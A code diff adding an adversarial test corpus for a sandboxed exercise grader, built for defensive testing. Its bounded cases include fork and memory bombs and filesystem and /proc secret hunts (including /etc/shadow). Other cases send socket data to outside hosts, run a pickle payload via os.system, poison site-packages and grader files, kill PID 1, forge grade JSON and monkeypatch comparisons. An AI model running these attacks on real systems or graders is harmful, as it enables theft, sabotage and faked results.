@@ -1,0 +1,441 @@
+"""The adversarial corpus: hostile and broken day45-attention submissions, each one attack.
+
+Every case is the reference solution plus code appended to attention.py (redefinitions at the end
+of the module replace the solution's functions). Each attack is bounded (loops end, forks are
+capped, sizes are finite) so that it is harmless even where no jail holds. Where an attack could
+"pay off", the code cheats only if the attack worked: it stays correct when it found a secret or
+got out, and carries a small bug (BUG) otherwise, so an escape would show up as a passing grade.
+
+Placeholders filled in by the test: @PLANT@ (a host folder holding planted secrets), @CANARY@ (the
+secret, for the few attacks that are told it), @PORT@ (a TCP listener on the host's loopback),
+@MARK@ (a unique name for files an attack tries to leave behind), @SIBLING@ (a concurrent
+submission's secret), @EXERCISE@ (the folder holding the hidden tests, keys and solution).
+"""
+from dataclasses import dataclass, field
+
+# a small, honest-looking bug: merge_heads scales its output (the head checks then fail)
+BUG = '''
+_merge_ok = merge_heads
+def merge_heads(x):
+    return _merge_ok(x) * 1.5
+'''
+
+CHEAT_UNLESS = '''
+if not _escaped:
+''' + "\n".join("    " + line for line in BUG.strip().splitlines()) + "\n"
+
+
+@dataclass
+class Case:
+    name: str
+    code: str
+    error: str | None = None            # the grade's error.kind, or None for failing checks only
+    symptom: str | None = None          # a symptom some failing check must carry
+    message: str | None = None          # text a failing check's or the error's message must hold
+    cli: bool = False                   # graded through the `grader` command (a fresh process)
+    linger: float = 0.0                 # seconds to watch the host afterwards for a late effect
+    needs_jail: bool = False            # contained only by bubblewrap, not by the process fallback
+    notes: str = ""
+    extra_files: dict = field(default_factory=dict)
+
+
+CASES = [
+    Case("loop-at-import", '''
+import time as _t
+_end = _t.monotonic() + 60
+while _t.monotonic() < _end:
+    pass
+''', error="timeout"),
+
+    Case("loop-in-call", '''
+import time as _t
+_sdpa = scaled_dot_product_attention
+def scaled_dot_product_attention(*a, **k):
+    _end = _t.monotonic() + 60
+    while _t.monotonic() < _end:
+        pass
+    return _sdpa(*a, **k)
+''', error="timeout", symptom="timeout"),
+
+    Case("sigterm-and-sigint-ignored", '''
+import signal as _s, time as _t
+for _sig in (_s.SIGTERM, _s.SIGINT, _s.SIGHUP, _s.SIGXCPU):
+    _s.signal(_sig, _s.SIG_IGN)
+_end = _t.monotonic() + 60
+while _t.monotonic() < _end:
+    pass
+''', error="timeout"),
+
+    Case("memory-bomb-at-import", '''
+import numpy as _np
+_hoard = []
+for _ in range(12):                     # up to 3 GiB, in 256 MiB blocks
+    _hoard.append(_np.empty(256 << 20, dtype=_np.uint8))
+''', error="memory"),
+
+    Case("memory-bomb-in-call", '''
+import torch as _torch
+_softmax = stable_softmax
+def stable_softmax(z, dim=-1):
+    _hoard = [_torch.empty(64 << 20) for _ in range(12)]    # 12 x 256 MiB
+    return _softmax(z, dim)
+''', symptom="memory-limit", message="memory"),
+
+    Case("fork-bomb-capped", '''
+import os as _os, time as _time
+_kids = []
+for _ in range(200):                    # capped: the jail's limit is far lower
+    _pid = _os.fork()
+    if _pid == 0:
+        _time.sleep(30)
+        _os._exit(0)
+    _kids.append(_pid)
+''', error="crash", message="Resource temporarily unavailable"),
+
+    Case("thread-bomb-capped", '''
+import threading as _th, time as _time
+_threads = []
+for _ in range(300):
+    _t = _th.Thread(target=_time.sleep, args=(30,), daemon=True)
+    _t.start()
+    _threads.append(_t)
+''', error="crash", message="thread"),
+
+    Case("double-forked-daemon", '''
+import os as _os, time as _time
+if _os.fork() == 0:
+    _os.setsid()
+    if _os.fork() == 0:
+        for _ in range(40):             # outlive the grade if allowed, and leave a mark on the host
+            _time.sleep(0.25)
+            for _d in ("/tmp", "@PLANT@"):
+                try:
+                    open(_d + "/@MARK@-daemon", "w").write("still here")
+                except OSError:
+                    pass
+        _os._exit(0)
+    _os._exit(0)
+''' + BUG, symptom="value-mismatch", linger=1.5, needs_jail=True),
+
+    Case("exit-0-at-import", '''
+import sys as _sys
+_sys.exit(0)
+''', error="crash", message="SystemExit"),
+
+    Case("os-exit-0-at-import", '''
+import os as _os
+_os._exit(0)
+''', error="crash", message="exited (code 0)"),
+
+    Case("os-exit-in-call", '''
+import os as _os
+_sdpa = scaled_dot_product_attention
+def scaled_dot_product_attention(*a, **k):
+    _os._exit(0)
+''', symptom="exception", message="exited (code 0)"),
+
+    Case("keyboard-interrupt-in-call", '''
+def split_heads(x, n_head):
+    raise KeyboardInterrupt
+''', symptom="exception", message="KeyboardInterrupt"),
+
+    Case("fake-grade-json-on-stdout", '''
+import json as _json, sys as _sys
+_fake = _json.dumps({"exercise": "day45-attention", "passed": True, "score": 34.0, "max_score": 34.0,
+                     "checks": [], "error": None})
+print(_fake)
+_sys.stderr.write(_fake + "\\n")
+_softmax = stable_softmax
+def stable_softmax(z, dim=-1):
+    print(_fake)
+    return _softmax(z, dim)
+''' + BUG, symptom="value-mismatch"),
+
+    Case("stdout-100-mb", '''
+import sys as _sys
+_line = "x" * (1 << 20)
+for _ in range(100):                   # 100 MiB, a megabyte at a time
+    _sys.stdout.write(_line)
+''', error="crash", message="limits what a submission may write"),
+
+    Case("walk-filesystem-for-secrets", '''
+import os as _os, time as _time
+_escaped = False
+_loot = []
+_t0 = _time.monotonic()
+_seen = 0
+for _root, _dirs, _files in _os.walk("/", onerror=lambda e: None):
+    _dirs[:] = [d for d in _dirs if _os.path.join(_root, d) not in ("/proc", "/sys", "/submission")]
+    for _f in _files:
+        _seen += 1
+        if _seen > 40000 or _time.monotonic() - _t0 > 1:
+            break
+        _p = _os.path.join(_root, _f)
+        if not _f.endswith((".py", ".toml", ".txt", ".json")):
+            continue
+        try:
+            _data = open(_p, "rb").read(1 << 16)
+        except OSError:
+            continue
+        if b"ADV-CANARY-" in _data or (b"@check" in _data and b"def test_" in _data) or b"hidden" in _p.encode():
+            _loot.append(_p + ": " + _data[:2000].decode("utf-8", "replace"))
+    if _seen > 40000 or _time.monotonic() - _t0 > 1:
+        break
+_escaped = any("ADV-CANARY-" in x or "Hidden tests for" in x for x in _loot)
+print("\\n".join(_loot)[:200000])
+''' + CHEAT_UNLESS + '''
+if _loot:
+    _m = merge_heads
+    def merge_heads(x):
+        raise RuntimeError("\\n".join(_loot)[:60000])
+''', symptom="value-mismatch"),
+
+    Case("read-known-secret-paths", '''
+import glob as _glob
+_escaped = False
+_loot = []
+for _pattern in ("@EXERCISE@/hidden/*", "@EXERCISE@/*.toml", "@EXERCISE@/solution/*", "@PLANT@/*",
+                 "/work/*/exercises/*/hidden/*.py", "/work/*/mutants/*.toml", "/root/*", "/root/.*",
+                 "/work/*/grader/*.py", "/etc/shadow", "/home/*/*"):
+    for _p in _glob.glob(_pattern):
+        try:
+            _loot.append(_p + ": " + open(_p).read(4000))
+        except OSError:
+            pass
+_escaped = any("ADV-CANARY-" in x or "Hidden tests for" in x for x in _loot)
+print("\\n".join(_loot))
+''' + CHEAT_UNLESS + '''
+def stable_softmax(z, dim=-1, _loot=_loot):
+    raise RuntimeError("|".join(_loot)[:60000] or "nothing found")
+''', symptom="exception", needs_jail=True),
+
+    Case("parent-proc-environ", '''
+import os as _os
+_escaped = False
+_loot = []
+for _pid in _os.listdir("/proc"):
+    for _part in ("environ", "cmdline"):
+        try:
+            _loot.append(_pid + "/" + _part + ": " + open("/proc/%s/%s" % (_pid, _part), "rb").read().decode("utf-8", "replace"))
+        except OSError:
+            pass
+_escaped = any("ADV-CANARY-" in x for x in _loot)
+print("\\n".join(_loot))
+''' + CHEAT_UNLESS + '''
+def split_heads(x, n_head, _loot=_loot):
+    raise RuntimeError("|".join(_loot)[:60000])
+''', symptom="exception", cli=True),
+
+    Case("network-connects", '''
+import socket as _socket
+_escaped = False
+for _addr in (("127.0.0.1", @PORT@), ("1.1.1.1", 53), ("8.8.8.8", 53), ("pypi.org", 443)):
+    try:
+        with _socket.create_connection(_addr, timeout=1.0) as _c:
+            _c.sendall(b"@MARK@ exfiltrated")
+            _escaped = True
+    except OSError:
+        pass
+try:
+    _u = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
+    _u.sendto(b"@MARK@", ("127.0.0.1", @PORT@))
+except OSError:
+    pass
+''' + CHEAT_UNLESS, symptom="value-mismatch", needs_jail=True),
+
+    Case("monkeypatch-torch-and-numpy-comparisons", '''
+import numpy as _np, torch as _torch
+_torch.allclose = lambda *a, **k: True
+_torch.equal = lambda *a, **k: True
+_torch.isclose = lambda a, b, *r, **k: _torch.ones_like(a, dtype=_torch.bool)
+_torch.Tensor.__eq__ = lambda self, other: True
+_torch.testing.assert_close = lambda *a, **k: None
+_np.allclose = lambda *a, **k: True
+_np.testing.assert_allclose = lambda *a, **k: None
+def scaled_dot_product_attention(q, k, v, mask=None, causal=False):
+    return _torch.zeros_like(q[..., :1]).expand(*q.shape[:-1], v.shape[-1]).clone()
+''', symptom="value-mismatch"),
+
+    Case("monkeypatch-builtins", '''
+import builtins as _b
+_real_isinstance = _b.isinstance
+_b.isinstance = lambda obj, cls: True     # breaks the jail's own code too: it may only crash
+_b.abs = lambda x: 0
+_b.len = lambda x: 0
+_b.print = lambda *a, **k: None
+''', error="crash"),
+
+    Case("lying-tensor-subclass", '''
+import torch as _torch
+class _Liar(_torch.Tensor):
+    def __eq__(self, other):
+        return True
+    def allclose(self, *a, **k):
+        return True
+    @classmethod
+    def __torch_function__(cls, func, types, args=(), kwargs=None):
+        if func in (_torch.allclose, _torch.equal):
+            return True
+        return super().__torch_function__(func, types, args, kwargs or {})
+_sdpa = scaled_dot_product_attention
+def scaled_dot_product_attention(*a, **k):
+    return (_sdpa(*a, **k) + 1.0).as_subclass(_Liar)
+''', symptom="value-mismatch"),
+
+    Case("object-lying-in-eq", '''
+class _Anything:
+    shape = (2, 3, 5, 4)
+    dtype = "float32"
+    def __eq__(self, other):
+        return True
+    def __array__(self, *a, **k):
+        raise RuntimeError("no")
+    def __len__(self):
+        return 2
+def scaled_dot_product_attention(q, k, v, mask=None, causal=False):
+    r = _Anything()
+    r.shape = tuple(q.shape[:-1]) + (v.shape[-1],)
+    return r
+''', symptom="shape-mismatch"),
+
+    Case("reduce-pickle-payload", '''
+import os as _os
+class _Payload:
+    def __reduce__(self):
+        return (_os.system, ("touch @PLANT@/@MARK@-unpickled",))
+def stable_softmax(z, dim=-1):
+    return _Payload()
+def merge_heads(x):
+    return {"tensor": _Payload(), "list": [_Payload()]}
+''', symptom="shape-mismatch"),
+
+    Case("segfault-via-ctypes", '''
+import ctypes as _ctypes
+_softmax = stable_softmax
+def stable_softmax(z, dim=-1):
+    _ctypes.string_at(0)
+    return _softmax(z, dim)
+''', symptom="exception", message="segmentation fault"),
+
+    Case("recursion-bomb", '''
+import sys as _sys
+_split = split_heads
+def split_heads(x, n_head):
+    _sys.setrecursionlimit(10 ** 8)      # no guard left: the C stack overflows
+    _nested = []
+    for _ in range(100_000):             # far deeper than an 8 MiB C stack allows
+        _nested = [_nested]
+    repr(_nested)
+    return _split(x, n_head)
+''', symptom="exception", message="segmentation fault"),
+
+    Case("billion-element-output", '''
+import torch as _torch
+def scaled_dot_product_attention(q, k, v, mask=None, causal=False):
+    return _torch.zeros(1).expand(10 ** 9)          # 4 GB if materialised; no memory until then
+''', symptom="exception", message="larger than"),
+
+    Case("poison-site-packages-and-grader", '''
+import os as _os, site as _site, sys as _sys, sysconfig as _sc
+_escaped = False
+_targets = set(_site.getsitepackages() + [_sc.get_paths()["purelib"], _sys.prefix])
+for _d in _targets:
+    for _name, _text in (("@MARK@.pth", "import sys; sys.stderr.write('POISONED')\\n"),
+                         ("sitecustomize.py", "raise SystemExit('POISONED')\\n")):
+        try:
+            with open(_os.path.join(_d, _name), "x") as _f:
+                _f.write(_text)
+            _escaped = True
+        except OSError:
+            pass
+for _p in ("/jail/worker.py", "/jail/wire.py", _os.path.abspath(__file__),
+           "/work/main/grader/runner.py", "@EXERCISE@/hidden/test_attention.py"):
+    try:
+        with open(_p, "a") as _f:
+            _f.write("\\n# poisoned\\n")
+        _escaped = True
+    except OSError:
+        pass
+''' + CHEAT_UNLESS, symptom="value-mismatch"),
+
+    Case("write-outside-the-jail", '''
+import os as _os
+_escaped = False
+for _d in ("/tmp", "/var/tmp", "/dev/shm", "@PLANT@", _os.path.expanduser("~"), "/", "/etc", "/usr"):
+    try:
+        with open(_os.path.join(_d, "@MARK@-written"), "w") as _f:
+            _f.write("x")
+        if _d in ("@PLANT@", "/", "/etc", "/usr", "/var/tmp"):
+            _escaped = True
+    except OSError:
+        pass
+''' + CHEAT_UNLESS, symptom="value-mismatch", needs_jail=True),
+
+    Case("read-sibling-submission", '''
+import os as _os, socket as _socket
+_escaped = False
+_loot = []
+_mine = _os.path.realpath(__file__)      # its own source names the secret it looks for
+for _root in ("/tmp", "/dev/shm", "/proc", "/submission", "/run", "/var", "/home", "/work", "/root"):
+    for _dir, _dirs, _files in _os.walk(_root, onerror=lambda e: None):
+        _dirs[:] = [d for d in _dirs if _os.path.join(_dir, d) not in ("/proc/self", "/proc/thread-self")
+                    and ".pyenv" not in d and ".venv" not in d]
+        if _dir.count("/") > 4:
+            _dirs[:] = []
+        for _f in _files[:200]:
+            _p = _os.path.join(_dir, _f)
+            if _os.path.realpath(_p) == _mine:
+                continue
+            try:
+                _data = open(_p, "rb").read(1 << 16)
+            except OSError:
+                continue
+            if b"@SIBLING@" in _data:
+                _loot.append(_os.path.join(_dir, _f))
+try:
+    _s = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
+    _s.settimeout(0.5)
+    _s.connect("\\0adversarial-victim")
+    _loot.append(_s.recv(100).decode())
+except OSError:
+    pass
+_escaped = bool(_loot)
+print(_loot)
+''' + CHEAT_UNLESS, symptom="value-mismatch", needs_jail=True),
+
+    Case("kill-everything-it-can", '''
+import os as _os, signal as _signal
+for _pid in (1, _os.getppid()):        # (kill(-1) is left out: unjailed, as the grader's own
+                                       # uid, it would take the test run with it)
+    try:
+        _os.kill(_pid, _signal.SIGKILL)
+    except OSError:
+        pass
+''' + BUG, symptom="value-mismatch"),
+
+    Case("close-the-protocol-pipes", '''
+import os as _os
+_os.closerange(3, 256)
+''', error="crash"),
+
+    Case("forge-a-protocol-reply", '''
+import json as _json, os as _os, struct as _struct
+_header = _json.dumps({"ok": {"attention": None}}).encode()
+for _fd in range(3, 64):
+    try:
+        _os.write(_fd, _struct.pack(">QQ", len(_header), 0) + _header)
+    except OSError:
+        pass
+''' + BUG, notes="a forged frame either breaks the protocol (crash) or answers an import; the "
+                 "grade still rests on the checks", symptom=None),
+
+    Case("privileged-syscalls", '''
+import ctypes as _ctypes, os as _os
+_escaped = False
+_libc = _ctypes.CDLL(None)
+_softmax = stable_softmax
+def stable_softmax(z, dim=-1):
+    _libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None)     # forbidden: the jail stops the process
+    return _softmax(z, dim)
+''', symptom="exception", message="forbids"),
+]
